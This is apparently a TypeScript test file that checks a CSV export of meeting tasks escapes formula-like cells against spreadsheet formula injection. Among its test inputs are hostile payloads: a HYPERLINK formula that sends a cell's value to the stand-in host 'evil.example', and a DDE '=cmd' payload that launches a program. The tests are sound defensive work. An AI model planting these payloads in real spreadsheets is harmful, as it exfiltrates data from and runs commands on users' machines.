import { describe, expect, it } from 'vitest'
import { csvOf } from '../../../backend/exports/targets/files/csv.ts'
import type { ActionItem } from '../../../schemas/generated/types.ts'

const item: ActionItem = {
  id: 'a1',
  meeting_id: 'm',
  title: 'Ask the school',
  description: '',
  owner: { name: 'Boris' },
  due_date: '2026-02-01',
  priority: null,
  status: 'open',
  labels: [],
  depends_on: [],
  acceptance_criteria: [],
  anchors: [],
  confidence: { level: null, basis: '' },
}

const rowOf = (title: string) =>
  csvOf([{ key: 'm/task/a1', item: { ...item, title } }])
    .split('\r\n')
    .slice(1)
    .join('\r\n')

/** The cells of the first row, as RFC 4180 has them. */
function cells(row: string, separator = ','): string[] {
  const found: string[] = []
  const one = new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n"]*))(${separator}|\\r\\n|$)`, 'y')
  for (;;) {
    const match = one.exec(row)
    if (match === null) throw new Error('This is no CSV.')
    found.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] !== separator) return found
  }
}

describe('the table of tasks', () => {
  it('has the mark of UTF-8, a head, and a row for each task', () => {
    expect(csvOf([{ key: 'm/task/a1', item }])).toBe(
      '\uFEFFkey,task,description,owner,due,priority,status,labels,acceptance criteria\r\nm/task/a1,Ask the school,,Boris,2026-02-01,,open,,\r\n',
    )
  })

  it.each(['a, b', 'say "hello"', 'two\nlines', 'ёж 🦔', "it's", 'a;b', 'plain'])(
    'keeps %j as it is',
    (text) => {
      expect(cells(rowOf(text))[1]).toBe(text)
    },
  )

  it.each([
    '=1+1',
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '  =1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '\u202E=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('makes %j a text: quoted, with a mark in front', (text) => {
    const row = rowOf(text)
    expect(cells(row)[1]).toBe(`'${text}`)
    expect(row).toContain(`,"'`)
  })

  it.each(['a;=1+1', 'a; @x', 'a\t=1', 'a\n=1', '\n=1', 'a\r\n-1', 'x;\u200B=1'])(
    'has no formula in %j for a program that splits at other signs either',
    (text) => {
      const parts = rowOf(text).split(/[;,\t\r\n]/)
      expect(parts.filter((part) => /^["\s\p{Cf}]*[=+\-@]/u.test(part))).toEqual([])
    },
  )
})
